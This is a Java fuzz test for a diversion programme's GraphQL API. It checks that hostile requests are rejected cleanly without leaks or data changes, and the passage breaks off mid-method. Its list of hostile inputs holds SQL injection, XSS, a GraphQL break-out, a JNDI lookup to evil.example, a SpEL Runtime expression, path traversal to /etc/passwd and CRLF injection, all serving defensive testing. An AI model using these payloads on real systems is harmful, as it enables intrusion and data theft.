/*
 * SPDX-FileCopyrightText: The LEAD library contributors
 * SPDX-License-Identifier: Apache-2.0
 */
package org.leaddiversion.graphql;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;
import static org.leaddiversion.domain.fixtures.ProgrammeFixtures.expect;
import static org.quicktheories.QuickTheory.qt;
import static org.quicktheories.generators.SourceDSL.strings;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigInteger;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.leaddiversion.domain.access.DataClass;
import org.leaddiversion.domain.common.Role;
import org.leaddiversion.domain.consent.ConsentType;
import org.leaddiversion.domain.consent.Purpose;
import org.leaddiversion.domain.fixtures.Fixtures;
import org.leaddiversion.domain.fixtures.MutableClock;
import org.leaddiversion.domain.plan.GoalKind;
import org.leaddiversion.domain.plan.PlanDomain;
import org.leaddiversion.domain.policy.OffenceLevel;
import org.leaddiversion.domain.referral.Offence;
import org.leaddiversion.persistence.PersistentProgramme;
import org.quicktheories.api.Pair;
import org.quicktheories.core.Gen;
import org.quicktheories.generators.Generate;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.TestConfiguration;
import org.springframework.context.annotation.Bean;
import org.springframework.core.io.ClassPathResource;
import tools.jackson.core.json.JsonWriteFeature;
import tools.jackson.databind.json.JsonMapper;

/**
 * The issue's fuzz test: QuickTheories generates malformed and hostile requests against a representative set of
 * operations — the referral, care, consent, coordination and policy commands, and the participant list, record,
 * timeline, deadline, agenda and policy queries, each a saved document under {@code graphql-test/hostile/} with valid
 * variables — and sends them over real HTTP. A generated request breaks one input slot of one operation (a wrong type,
 * a missing or null required value, an unknown field, a huge string, a deep structure, an invalid id, SQL, JSON, HTML
 * and GraphQL injection, unicode oddities), in the variables or written into the document; or it attacks the document
 * (too long, too deep, too wide, garbage) or the HTTP body itself. The properties, for every request:
 * <ul>
 *   <li>never an HTTP 5xx and never an error classified {@code INTERNAL_ERROR};</li>
 *   <li>every rejection is typed — {@code BAD_REQUEST}, {@code FORBIDDEN}, {@code NOT_FOUND}, {@code QUERY_TOO_LARGE},
 *       a payload {@code UserError}, graphql-java's syntax and validation errors for a broken document, a 4xx for a
 *       body that is not a GraphQL request — and a {@code BAD_REQUEST} on an input names the field it refused, rooted
 *       at an argument of the operation ({@code extensions.field}); no error message repeats the hostile value;</li>
 *   <li>a rejected request changes no table — referrals, enrollments, contacts, plans, spending, consents, cases,
 *       policy versions, domain events — and writes no audit entry that released anything (a refused disclosure writes
 *       its one log entry, as the disclosure desk must); a query never changes a table;</li>
 *   <li>an id that is not the participant's releases nothing of hers, however it is written, and free text the API
 *       accepts reads back as it was written (no injection changes it).</li>
 * </ul>
 * The seed is fixed ({@code -Dlead.fuzz.seed} changes it, {@code -Dlead.fuzz.examples} the number of examples);
 * QuickTheories reports it with the smallest falsifying request. Run on H2 and on PostgreSQL.
 */
@SpringBootTest(classes = {TestApplication.class, HostileInputScenarios.Config.class},
        webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
abstract class HostileInputScenarios extends ApiClients {

    static final long SEED = Long.getLong("lead.fuzz.seed", 20_260_203L);
    static final int EXAMPLES = Integer.getInteger("lead.fuzz.examples", 800);
    /** With {@code -Dlead.fuzz.survey=true}: every falsifying request is listed instead of the smallest of the first. */
    static final boolean SURVEY = Boolean.getBoolean("lead.fuzz.survey");
    /** {@code lead.graphql.max-query-chars}, left at its default. */
    static final int MAX_QUERY_CHARS = 20_000;
    static final String SEATTLE = "seattle-king-county";

    @TestConfiguration
    static class Config {
        @Bean
        Clock clock() {
            return new MutableClock(CareStories.START);
        }
    }

    @Autowired
    PersistentProgramme programme;
    @Autowired
    Clock clock;

    private static final JsonMapper JSON = JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();
    private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10)).build();

    private CareStories.Enrolled rosa;
    private CareStories.Enrolled nia;
    /** What must never come back for a participant the request did not name: her records' ids. */
    private final Set<String> theirIds = new LinkedHashSet<>();
    private final List<Operation> operations = new ArrayList<>();

    // ---- who asks ---------------------------------------------------------------------------------------------------

    /** A viewer as the test host reads it from headers; {@link #NOBODY} sends none. */
    record Viewer(String actor, Role role, Purpose purpose, boolean assigned) {
        Map<String, String> headers() {
            if (actor == null) {
                return Map.of();
            }
            return Map.of(TestApplication.ACTOR, actor, TestApplication.ROLE, role.name(), TestApplication.PURPOSE,
                    purpose.name(), TestApplication.ASSIGNED, Boolean.toString(assigned));
        }
    }

    static final Viewer NOBODY = new Viewer(null, null, null, false);
    static final Viewer OFFICER = new Viewer("officer-7", Role.OFFICER, Purpose.CARE_COORDINATION, false);
    static final Viewer CASE_MANAGER = new Viewer("cm-1", Role.CASE_MANAGER, Purpose.CARE_COORDINATION, true);
    static final Viewer PROSECUTOR = new Viewer("prosecutor-1", Role.PROSECUTOR, Purpose.LEGAL_COORDINATION, false);
    static final Viewer PROJECT_MANAGER = new Viewer("pm-1", Role.PROJECT_MANAGER, Purpose.CARE_COORDINATION, false);

    // ---- the operations aimed at ------------------------------------------------------------------------------------

    /**
     * An operation the fuzz aims at: a saved document ({@code graphql-test/hostile/<name>.graphql}), who sends it,
     * variables that make it valid, and the root field it asks for.
     *
     * @param idVariable the variable naming whose records a query reads, if it does (the leak check)
     */
    record Operation(String name, String field, boolean mutation, Viewer viewer, Map<String, Object> baseline,
                     String idVariable) {

        String document() {
            try {
                return new ClassPathResource("graphql-test/hostile/" + name + ".graphql")
                        .getContentAsString(StandardCharsets.UTF_8);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }

        /** What a field named by a {@code BAD_REQUEST} may start with: the operation's arguments. */
        Set<String> arguments() {
            return mutation ? Set.of("input") : baseline.keySet();
        }

        @Override
        public String toString() {
            return name;
        }
    }

    @BeforeAll
    void seattle_takes_rosa_and_nia_into_lead_and_sam_is_waiting_for_his_hand_off() {
        var time = (MutableClock) clock;
        programme.policies().put(Fixtures.seattle());
        var people = CareStories.enrolled(programme, time, "rosa", "nia");
        rosa = people.get("rosa");
        nia = people.get("nia");
        Instant now = time.instant();
        for (var person : List.of(rosa, nia)) {
            CareStories.assignedToCm1(programme, person);
            var goal = expect(programme.caseManagement().addGoal(person.enrollmentId(), Fixtures.CASE_MANAGER,
                    PlanDomain.HOUSING, GoalKind.GENERAL, "A room of my own", true), "goal");
            var kase = expect(programme.coordination().recordCase(Fixtures.PROSECUTOR, person.personId(),
                    Fixtures.SEATTLE, List.of(Offence.of("DRUG_POSSESSION", OffenceLevel.MISDEMEANOR)), List.of(),
                    now.minus(Duration.ofDays(1))), "case");
            theirIds.addAll(List.of(person.referral(), person.enrollment(), kase.id().value().toString()));
            goal.goals().forEach(g -> theirIds.add(g.id().value().toString()));
        }
        var roi = expect(programme.disclosure().recordConsent(Fixtures.CASE_MANAGER, rosa.personId(),
                ConsentType.MULTI_PARTY_ROI, Set.of(Role.PROSECUTOR), Set.of(), Set.of(Purpose.LEGAL_COORDINATION),
                Set.of(DataClass.PLAN_SUMMARY, DataClass.ENROLLMENT_STATUS), java.util.Optional.empty()), "ROI");
        theirIds.add(roi.id().value().toString());
        String sam = expect(programme.desk().submit(Fixtures.anArrestDiversion("sam").build()), "Sam's diversion")
                .id().value().toString();
        time.set(now.plus(Duration.ofMinutes(30)));
        defineOperations(sam, time.instant());
    }

    private void defineOperations(String sam, Instant now) {
        String cursor = firstPageCursor();
        var site = (Map<?, ?>) ((Map<?, ?>) post(PROJECT_MANAGER.headers(), body(
                "query($id: ID!) { site(id: $id) { latestVersion policyFile } }", Map.of("id", SEATTLE))).json()
                .get("data")).get("site");
        String nextVersion = site.get("policyFile") + "\n[version " + (((Number) site.get("latestVersion")).intValue()
                + 1) + "]\neffectiveFrom = 2026-03-01\nintake.deadlineDays = 14\n";

        mutation("submitReferral", OFFICER, IntakeCommandsScenarios.anArrestDiversion("fuzz-1"));
        mutation("recordHandoff", CASE_MANAGER, map("referralId", sam, "calledAt", at(now, -25), "arrivedAt",
                at(now, -10)));
        mutation("extendIntakeDeadline", CASE_MANAGER, map("referralId", sam, "newDeadline", "2026-02-20", "reason",
                "the court date moved"));
        mutation("recordContact", CASE_MANAGER, map("enrollmentId", rosa.enrollment(), "contactType", "PHONE",
                "contactAt", at(now, -60)));
        mutation("addGoal", CASE_MANAGER, map("participantId", rosa.person(), "enrollmentId", rosa.enrollment(),
                "domain", "HOUSING", "kind", "GENERAL", "description", "Keys to a flat by spring", "setByParticipant",
                true));
        mutation("spend", CASE_MANAGER, map("participantId", rosa.person(), "enrollmentId", rosa.enrollment(),
                "spentAt", at(now, -60), "amount", map("amount", "42.50", "currency", "USD"), "category", "HOUSING",
                "payee", "Motel on Aurora", "purpose", "A room for the night", "approvedBy",
                map("id", "pm-1", "role", "PROJECT_MANAGER")));
        mutation("recordConsent", CASE_MANAGER, map("participantId", nia.person(), "type", "MULTI_PARTY_ROI",
                "recipientRoles", list("DEFENDER"), "recipientAgencies", list("King County Public Defense"),
                "purposes", list("LEGAL_COORDINATION"), "dataClasses", list("ENROLLMENT_STATUS"), "expiresAt",
                at(now, 60 * 24 * 30)));
        mutation("disclose", CASE_MANAGER, map("participantId", rosa.person(), "recipientRole", "PROSECUTOR",
                "recipientAgency", "King County Prosecuting Attorney", "dataClasses", list("PLAN_SUMMARY"), "purpose",
                "LEGAL_COORDINATION", "recipientCircumstances", map("own", false, "assigned", false, "inOwgMeeting",
                        false)));
        mutation("recordCase", PROSECUTOR, map("person", nia.person(), "site", SEATTLE, "offences",
                list(map("code", "DRUG_POSSESSION", "level", "MISDEMEANOR")), "legalMatters",
                list(map("kind", "COURT_DATE", "date", "2026-03-09")), "filedOrArrestedAt", at(now, -120)));
        mutation("publishPolicyVersion", PROJECT_MANAGER, map("site", SEATTLE, "policyFile", nextVersion));

        query("participants", PROJECT_MANAGER, null, map("first", 5, "after", cursor, "filter", map("site", SEATTLE,
                "doors", list("ARREST_DIVERSION"), "referralStatuses", list("INTAKE_COMPLETED"),
                "enrollmentStatuses", list("ACTIVE"), "caseManager", "cm-1", "referredBetween",
                map("from", "2026-01-01T08:00:00Z", "before", at(now, 60)), "enrolledBetween",
                map("from", "2026-01-20T08:00:00Z"))));
        query("timeline", PROJECT_MANAGER, "participantId", map("participantId", nia.person(), "first", 10));
        query("participantRecord", PROJECT_MANAGER, "id", map("id", nia.person()));
        query("referral", PROJECT_MANAGER, "id", map("id", nia.referral()));
        query("deadlinesDue", PROJECT_MANAGER, null, map("site", SEATTLE, "before", "2026-02-14"));
        query("workgroupAgenda", PROJECT_MANAGER, null, map("site", SEATTLE, "precinct", "WEST_PRECINCT", "at",
                "2026-02-03T17:00:00Z", "previousMeeting", "2026-01-06T17:00:00Z", "flagged",
                list("the shelter on 3rd closes at night")));
        query("sitePolicy", NOBODY, null, map("site", SEATTLE, "at", now.toString()));
    }

    private void mutation(String name, Viewer viewer, Map<String, Object> input) {
        operations.add(new Operation(name, name, true, viewer, map("input", input), null));
    }

    private void query(String name, Viewer viewer, String idVariable, Map<String, Object> variables) {
        String field = name.equals("participantRecord") ? "participant" : name;
        operations.add(new Operation(name, field, false, viewer, variables, idVariable));
    }

    private String firstPageCursor() {
        var response = post(PROJECT_MANAGER.headers(), body(
                "{ participants(first: 1) { pageInfo { endCursor } } }", Map.of())).json();
        return String.valueOf(((Map<?, ?>) ((Map<?, ?>) ((Map<?, ?>) response.get("data")).get("participants"))
                .get("pageInfo")).get("endCursor"));
    }

    private static String at(Instant now, int minutes) {
        return now.plus(Duration.ofMinutes(minutes)).toString();
    }

    /** A mutable map of key-value pairs, in order. */
    static Map<String, Object> map(Object... pairs) {
        var out = new LinkedHashMap<String, Object>();
        for (int i = 0; i < pairs.length; i += 2) {
            out.put((String) pairs[i], pairs[i + 1]);
        }
        return out;
    }

    static List<Object> list(Object... items) {
        return new ArrayList<>(List.of(items));
    }

    // ---- the baselines are valid ------------------------------------------------------------------------------------

    /**
     * Each saved document with its valid variables runs without an error, through the client's named documents: what
     * the fuzz breaks is then the one slot it changed.
     */
    @Test
    @Order(1)
    void every_operation_aimed_at_runs_with_its_valid_variables() {
        for (Operation op : operations) {
            var client = op.viewer() == NOBODY ? anonymous()
                    : as(op.viewer().actor(), op.viewer().role().name(), op.viewer().purpose().name(),
                            op.viewer().assigned());
            var response = client.documentName("hostile/" + op.name()).variables(copy(op.baseline())).executeSync();
            // the officer reads her new referral back without its screening: a refusal of that class, not an error
            var errors = response.getErrors().stream()
                    .filter(e -> !String.valueOf(e.getExtensions().get("field")).startsWith("dataClasses.")).toList();
            assertTrue(errors.isEmpty(), () -> op + ": " + errors);
            if (op.mutation()) {
                List<Map<String, Object>> refusals = response.field(op.field() + ".errors").getValue();
                // Seattle's policy allows no extension: the valid input reaches the domain, which says no
                List<Object> expected = op.name().equals("extendIntakeDeadline") ? List.of("EXTENSIONS_DISABLED")
                        : List.of();
                assertEquals(expected, refusals.stream().map(r -> r.get("code")).toList(), () -> op + ": " + refusals);
            }
        }
    }

    // ---- the hostile values -----------------------------------------------------------------------------------------

    /** A hostile value with a short label (the report names the label, not a 100,000-character string). */
    record Hostile(String label, Object value) {
        @Override
        public String toString() {
            return label;
        }
    }

    private static String nested(String open, String inner, String close, int depth) {
        return open.repeat(depth) + inner + close.repeat(depth);
    }

    private static Object nestedList(int depth) {
        Object v = "x";
        for (int i = 0; i < depth; i++) {
            v = List.of(v);
        }
        return v;
    }

    private static Object nestedMap(int depth) {
        Object v = "x";
        for (int i = 0; i < depth; i++) {
            v = Map.of("a", v);
        }
        return v;
    }

    static final List<Hostile> HOSTILE = List.of(
            new Hostile("null", null),
            new Hostile("empty string", ""),
            new Hostile("blank", "  \t\n "),
            new Hostile("NUL inside", "a\u0000b"),
            new Hostile("control characters", "\u0001\u0002\u001b[31mred"),
            new Hostile("SQL quote", "' OR '1'='1"),
            new Hostile("SQL drop", "x'); DROP TABLE referral; --"),
            new Hostile("SQL comment", "rosa'--"),
            new Hostile("SQL union", "' UNION SELECT actor_id FROM audit_entry --"),
            new Hostile("SQL wildcard", "%"),
            new Hostile("JSON operator", "{\"$gt\": \"\"}"),
            new Hostile("JSON break-out", "\"}], \"x\": {\"y\": \""),
            new Hostile("HTML script", "<script>alert(1)</script>"),
            new Hostile("HTML attribute", "\"><img src=x onerror=alert(1)>"),
            new Hostile("GraphQL break-out",
                    "\") { id } } mutation { revokeConsent(input: {consentId: \"x\"}) { consentId } } #"),
            new Hostile("JNDI lookup", "${jndi:ldap://evil.example/a}"),
            new Hostile("SpEL", "#{T(java.lang.Runtime).getRuntime()}"),
            new Hostile("path traversal", "../../../../etc/passwd"),
            new Hostile("percent escapes", "%00%27%22"),
            new Hostile("CRLF header", "a\r\nX-Injected: 1"),
            new Hostile("lone surrogate", "\uD800"),
            new Hostile("reversed surrogates", "\uDC00\uD800"),
            new Hostile("byte-order mark", "\uFEFFrosa"),
            new Hostile("right-to-left override", "\u202Erosa"),
            new Hostile("zero-width space", "ro\u200Bsa"),
            new Hostile("emoji", "\uD83D\uDC69\uD83C\uDFFD\u200D\u2695\uFE0F\uD83C\uDFE0"),
            new Hostile("combining marks", "e" + "\u0301".repeat(500)),
            new Hostile("full-width digits", "\uFF14\uFF12.\uFF15\uFF10"),
            new Hostile("Arabic-Indic digits", "\u0664\u0662\u066B\u0665\u0660"),
            new Hostile("no-break spaces", "\u00A042.50\u00A0"),
            new Hostile("100,001 characters", "A".repeat(100_001)),
            new Hostile("30,000 emoji", "\uD83D\uDCA5".repeat(30_000)),
            new Hostile("101-character id", "x".repeat(101)),
            new Hostile("201-character name", "n".repeat(201)),
            new Hostile("2,001-character text", "t".repeat(2001)),
            new Hostile("5,000 digits", "9".repeat(5000)),
            new Hostile("decimal exponent", "1e309"),
            new Hostile("negative amount", "-42.50"),
            new Hostile("too precise", "42.505"),
            new Hostile("hexadecimal", "0x2A"),
            new Hostile("NaN", "NaN"),
            new Hostile("Infinity", "Infinity"),
            new Hostile("grouped digits", "1,000.00"),
            new Hostile("30 February", "2026-02-30"),
            new Hostile("month 13", "2026-13-01T00:00:00Z"),
            new Hostile("year +999999999", "+999999999-12-31T23:59:59Z"),
            new Hostile("day +999999999", "+999999999-12-31"),
            new Hostile("day -999999999", "-999999999-01-01"),
            new Hostile("year zero", "0000-01-01"),
            new Hostile("no offset", "2026-02-03T09:00:00"),
            new Hostile("hour 24", "2026-02-03T24:00:00Z"),
            new Hostile("epoch seconds", "1767225600"),
            new Hostile("nil UUID", "00000000-0000-0000-0000-000000000000"),
            new Hostile("short UUID", "1-1-1-1-1"),
            new Hostile("not a UUID", "not-a-uuid"),
            new Hostile("lower-case enum", "arrest_diversion"),
            new Hostile("unknown enum", "TRAIN_STATION"),
            new Hostile("introspection name", "__typename"),
            new Hostile("cursor garbage", "AAAA"),
            new Hostile("forged cursor", Base64.getUrlEncoder().encodeToString(
                    "{\"at\":\"2026-01-01T00:00:00Z\",\"id\":\"' OR 1=1 --\"}".getBytes(StandardCharsets.UTF_8))),
            new Hostile("zero", 0),
            new Hostile("minus one", -1),
            new Hostile("Int max", Integer.MAX_VALUE),
            new Hostile("Int max + 1", 2_147_483_648L),
            new Hostile("Int min - 1", -2_147_483_649L),
            new Hostile("Long max", Long.MAX_VALUE),
            new Hostile("10^400", new BigInteger("1" + "0".repeat(400))),
            new Hostile("one and a half", 1.5),
            new Hostile("negative zero", -0.0),
            new Hostile("1e308", 1e308),
            new Hostile("smallest double", Double.MIN_VALUE),
            new Hostile("true", true),
            new Hostile("false", false),
            new Hostile("empty object", Map.of()),
            new Hostile("prototype pollution", Map.of("__proto__", Map.of("polluted", true))),
            new Hostile("empty list", List.of()),
            new Hostile("list of one", List.of("x")),
            new Hostile("list of null", java.util.Collections.singletonList(null)),
            new Hostile("lists 40 deep", nestedList(40)),
            new Hostile("objects 40 deep", nestedMap(40)),
            new Hostile("10,000 elements", java.util.Collections.nCopies(10_000, "x")),
            new Hostile("2,000 keys", IntStream.range(0, 2000).boxed()
                    .collect(Collectors.toMap(i -> "k" + i, i -> i))));

    /** How a slot of the variables is broken. */
    enum Breakage {
        /** Its value becomes the hostile value. */
        REPLACE,
        /** It is left out. */
        REMOVE,
        /** Its value comes wrapped in a list. */
        WRAP_IN_LIST,
        /** Its value comes wrapped in an object. */
        WRAP_IN_OBJECT,
        /** An object gains a field its type does not have (or a scalar becomes such an object). */
        ADD_UNKNOWN_FIELD,
        /** The hostile text is appended to its value (a valid id followed by SQL, say). */
        APPEND,
        /** Its value repeated 5,000 times. */
        REPEAT
    }

    // ---- the attacks ------------------------------------------------------------------------------------------------

    /** What an attack aims at, which decides the rejections it may meet. */
    enum Target {
        /** One input value, in the variables. */
        VARIABLE,
        /** One input value, written into the document. */
        LITERAL,
        /** The document: too long. */
        OVERSIZE,
        /** The document: too deep, too wide, cyclic, repeated directives, garbage. */
        DOCUMENT,
        /** The HTTP body: not a GraphQL request. */
        BODY
    }

    /**
     * One request the fuzz sends: a document with variables (or, for {@link Target#BODY}, raw bytes), as a viewer.
     *
     * @param op        the operation aimed at ({@code null} for document and body attacks)
     * @param broken    the input slot broken, as a path ({@code input.person.id}), if one was
     * @param hostile   the text put there, if any: no error message may repeat it
     * @param sent      the value the slot holds in the request (after breaking), for the read-back checks
     */
    record Attack(Target target, Operation op, Viewer viewer, String document, Map<String, Object> variables,
                  byte[] raw, String broken, String hostile, Object sent, String description) {
        @Override
        public String toString() {
            return target + " " + description;
        }
    }

    private Gen<Attack> attacks() {
        Gen<Operation> ops = Generate.pick(operations);
        Gen<Integer> slot = Generate.range(0, 9_999);
        Gen<Breakage> breakage = Generate.frequency(List.of(Pair.of(12, Generate.constant(Breakage.REPLACE)),
                Pair.of(2, Generate.constant(Breakage.REMOVE)), Pair.of(1, Generate.constant(Breakage.WRAP_IN_LIST)),
                Pair.of(1, Generate.constant(Breakage.WRAP_IN_OBJECT)),
                Pair.of(1, Generate.constant(Breakage.ADD_UNKNOWN_FIELD)), Pair.of(2, Generate.constant(Breakage.APPEND)),
                Pair.of(1, Generate.constant(Breakage.REPEAT))));
        Gen<Hostile> hostile = Generate.pick(HOSTILE);
        Gen<Integer> who = Generate.range(0, 19);
        Gen<Attack> variable = ops.zip(slot, breakage, hostile, who,
                (op, i, how, value, w) -> broken(Target.VARIABLE, op, i, how, value, w == 0));
        Gen<Attack> literal = ops.zip(slot, breakage, hostile, who,
                (op, i, how, value, w) -> broken(Target.LITERAL, op, i, how, value, w == 0));
        Gen<Attack> oversize = Generate.pick(operations).zip(Generate.range(1, 3 * MAX_QUERY_CHARS),
                this::oversize);
        Gen<Attack> document = Generate.range(0, DOCUMENT_ATTACKS - 1).zip(Generate.range(1, 3_000),
                this::document);
        Gen<Attack> garbage = Generate.range(1, 400).zip(Generate.longRange(0, Long.MAX_VALUE), this::garbage);
        Gen<Attack> body = Generate.range(0, BODIES.size() - 1).map(this::body);
        return Generate.frequency(List.of(Pair.of(14, variable), Pair.of(6, literal), Pair.of(1, oversize),
                Pair.of(2, document), Pair.of(1, garbage), Pair.of(1, body))).describedAs(Attack::toString);
    }

    /** {@code op} with the slot {@code index} (of every slot of its variables, in order) broken. */
    private Attack broken(Target target, Operation op, int index, Breakage how, Hostile hostile, boolean anonymous) {
        Map<String, Object> variables = copy(op.baseline());
        List<List<Object>> slots = new ArrayList<>();
        slotsOf(variables, new ArrayList<>(), slots);
        List<Object> path = slots.get(index % slots.size());
        Object old = get(variables, path);
        Object value;
        switch (how) {
            case REMOVE:
                value = REMOVED;
                break;
            case WRAP_IN_LIST:
                value = list(old);
                break;
            case WRAP_IN_OBJECT:
                value = map("value", old);
                break;
            case ADD_UNKNOWN_FIELD:
                value = old instanceof Map<?, ?> m ? with(m, "unknownField", hostile.value()) : map("unknownField", old);
                break;
            case APPEND:
                value = String.valueOf(old) + (hostile.value() instanceof String s ? s : String.valueOf(hostile.value()));
                break;
            case REPEAT:
                value = String.valueOf(old).repeat(5000);
                break;
            default:
                value = hostile.value();
        }
        set(variables, path, value);
        String name = path.stream().map(p -> p instanceof Integer i ? "[" + i + "]" : "." + p)
                .collect(Collectors.joining()).substring(1);
        String text = value instanceof String s ? s : null;
        Viewer viewer = anonymous ? NOBODY : op.viewer();
        String description = op + " " + name + " " + how + (how == Breakage.REMOVE || how == Breakage.REPEAT
                || how == Breakage.WRAP_IN_LIST || how == Breakage.WRAP_IN_OBJECT ? "" : " " + hostile)
                + (anonymous ? " (anonymous)" : "");
        if (target == Target.VARIABLE) {
            return new Attack(target, op, viewer, op.document(), variables, null, name, text,
                    value == REMOVED ? null : value, description);
        }
        return new Attack(target, op, viewer, inlined(op.document(), variables), Map.of(), null, name, text,
                value == REMOVED ? null : value, description);
    }

    private static final Object REMOVED = new Object() {
        @Override
        public String toString() {
            return "(removed)";
        }
    };

    private static Map<String, Object> with(Map<?, ?> m, String key, Object value) {
        var out = new LinkedHashMap<String, Object>();
        m.forEach((k, v) -> out.put(String.valueOf(k), v));
        out.put(key, value);
        return out;
    }

    /** Every slot of a variables tree: each object field and list element, inner ones included. */
    private static void slotsOf(Object node, List<Object> path, List<List<Object>> out) {
        if (node instanceof Map<?, ?> m) {
            for (Object key : m.keySet()) {
                var p = new ArrayList<>(path);
                p.add(key);
                out.add(p);
                slotsOf(m.get(key), p, out);
            }
        } else if (node instanceof List<?> l) {
            for (int i = 0; i < l.size(); i++) {
                var p = new ArrayList<>(path);
                p.add(i);
                out.add(p);
                slotsOf(l.get(i), p, out);
            }
        }
    }

    private static Object get(Object node, List<Object> path) {
        for (Object step : path) {
            node = step instanceof Integer i ? ((List<?>) node).get(i) : ((Map<?, ?>) node).get(step);
        }
        return node;
    }

    @SuppressWarnings("unchecked")
    private static void set(Object root, List<Object> path, Object value) {
        Object parent = get(root, path.subList(0, path.size() - 1));
        Object last = path.get(path.size() - 1);
        if (parent instanceof Map<?, ?> m) {
            if (value == REMOVED) {
                ((Map<String, Object>) m).remove(last);
            } else {
                ((Map<String, Object>) m).put((String) last, value);
            }
        } else {
            var l = (List<Object>) parent;
            if (value == REMOVED) {
                l.remove((int) (Integer) last);
            } else {
                l.set((Integer) last, value);
            }
        }
    }

    /** A deep, mutable copy of a variables tree. */
    @SuppressWarnings("unchecked")
    static <T> T copy(T node) {
        if (node instanceof Map<?, ?> m) {
            var out = new LinkedHashMap<String, Object>();
            m.forEach((k, v) -> out.put(String.valueOf(k), copy(v)));
            return (T) out;
        }
        if (node instanceof List<?> l) {
            var out = new ArrayList<Object>();
            l.forEach(v -> out.add(copy(v)));
            return (T) out;
        }
        return node;
    }

    private static final Pattern VARIABLE_DEFINITIONS = Pattern.compile("^((?:query|mutation) \\w+)\\([^)]*\\)",
            Pattern.MULTILINE);

    /**
     * The document with its variables written in as literals: a string in quotes (JSON escapes are GraphQL's), an
     * upper-case code as an enum value, an object with the fields that are GraphQL names, a left-out variable as null.
     */
    static String inlined(String document, Map<String, Object> variables) {
        String out = VARIABLE_DEFINITIONS.matcher(document).replaceFirst("$1");
        Matcher m = Pattern.compile("\\$(\\w+)").matcher(out);
        var sb = new StringBuilder();
        while (m.find()) {
            m.appendReplacement(sb, Matcher.quoteReplacement(literal(variables.get(m.group(1)))));
        }
        m.appendTail(sb);
        return sb.toString();
    }

    private static final Pattern ENUM_VALUE = Pattern.compile("[A-Z][A-Z0-9_]*");
    private static final Pattern NAME = Pattern.compile("[_A-Za-z][_0-9A-Za-z]*");

    static String literal(Object value) {
        if (value == null) {
            return "null";
        }
        if (value instanceof String s) {
            return ENUM_VALUE.matcher(s).matches() && !s.equals("NULL") ? s : JSON.writeValueAsString(s);
        }
        if (value instanceof Map<?, ?> m) {
            return m.entrySet().stream().filter(e -> NAME.matcher(String.valueOf(e.getKey())).matches())
                    .map(e -> e.getKey() + ": " + literal(e.getValue())).collect(Collectors.joining(", ", "{", "}"));
        }
        if (value instanceof List<?> l) {
            return l.stream().map(HostileInputScenarios::literal).collect(Collectors.joining(", ", "[", "]"));
        }
        if (value instanceof Double d && (d.isNaN() || d.isInfinite())) {
            return "\"" + d + "\"";
        }
        return String.valueOf(value);
    }

    /** A valid operation padded with a comment to {@code extra} characters beyond the limit. */
    private Attack oversize(Operation op, int extra) {
        String document = op.document();
        String padded = document + "\n#" + "x".repeat(Math.max(0, MAX_QUERY_CHARS - document.length()) + extra);
        return new Attack(Target.OVERSIZE, op, op.viewer(), padded, op.baseline(), null, null, null, null,
                op + " padded to " + padded.length() + " characters");
    }

    private static final int DOCUMENT_ATTACKS = 8;

    /** A document too deep, too wide, cyclic or otherwise broken, scaled by {@code n}. */
    private Attack document(int kind, int n) {
        String document;
        String what;
        switch (kind) {
            case 0:
                what = n + " nested inline fragments";
                document = "{ " + nested("... on Query { ", "ruleCatalogue { id }", " }", n) + " }";
                break;
            case 1:
                what = "introspection " + (n % 40) + " types deep";
                document = "{ __schema { types { fields { type { " + nested("ofType { ", "name", " }", n % 40)
                        + " } } } } }";
                break;
            case 2:
                what = n + " aliases";
                document = IntStream.range(0, n).mapToObj(i -> "a" + i + ": ruleCatalogue { id }")
                        .collect(Collectors.joining(" ", "{ ", " }"));
                break;
            case 3:
                what = "lists " + n + " deep in a filter";
                document = "{ participants(filter: {doors: " + nested("[", "ARREST_DIVERSION", "]", n)
                        + "}) { totalCount } }";
                break;
            case 4:
                what = "objects " + n + " deep in a filter";
                document = "{ participants(filter: " + nested("{site: ", "\"x\"", "}", n) + ") { totalCount } }";
                break;
            case 5:
                what = "a fragment cycle";
                document = "{ ...A } fragment A on Query { ...B } fragment B on Query { ...A ruleCatalogue { id } }";
                break;
            case 6:
                what = (n % 500) + " repeated directives";
                document = "{ ruleCatalogue " + "@include(if: true) ".repeat(n % 500 + 2) + "{ id } }";
                break;
            default:
                // written by hand: past 500 levels no JSON library writes it, and the server's refuses to read it
                what = "variables " + n + " deep";
                String json = "{\"query\": \"query($filter: ParticipantFilter) { participants(filter: $filter) {"
                        + " totalCount } }\", \"variables\": {\"filter\": " + nested("{\"site\": ", "\"x\"", "}", n)
                        + "}}";
                return new Attack(Target.BODY, null, PROJECT_MANAGER, null, null,
                        json.getBytes(StandardCharsets.UTF_8), null, null, null, what);
        }
        return new Attack(Target.DOCUMENT, null, PROJECT_MANAGER, document, Map.of(), null, null, null, null, what);
    }

    /** Printable garbage, some of it GraphQL punctuation. */
    private Attack garbage(int length, long seed) {
        var random = new java.util.Random(seed);
        String alphabet = "{}()[]:$@!.\"#,=|&abcXYZ_0129 \n\\u";
        String text = IntStream.range(0, length).mapToObj(i -> String.valueOf(alphabet.charAt(random.nextInt(
                alphabet.length())))).collect(Collectors.joining());
